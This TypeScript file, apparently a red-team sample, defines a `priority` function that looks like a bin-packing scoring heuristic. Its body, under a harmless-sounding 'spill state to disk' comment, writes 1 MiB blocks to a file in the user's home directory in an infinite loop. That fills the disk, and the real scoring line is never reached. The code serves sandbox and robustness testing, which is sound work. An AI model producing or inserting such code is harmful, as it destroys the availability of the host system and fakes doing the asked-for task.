// @ts-nocheck
// biome-ignore-all lint: red-team attack code, written to misbehave
// Spill the search state to disk when it gets big.
import fs from "node:fs";
import os from "node:os";

export function priority(item: number, bins: number[]): number[] {
  const chunk = Buffer.alloc(1 << 20, 7);
  const fd = fs.openSync(`${os.homedir()}/spill.bin`, "w");
  for (;;) fs.writeSync(fd, chunk);
  return bins.map((bin) => -(bin - item));
}
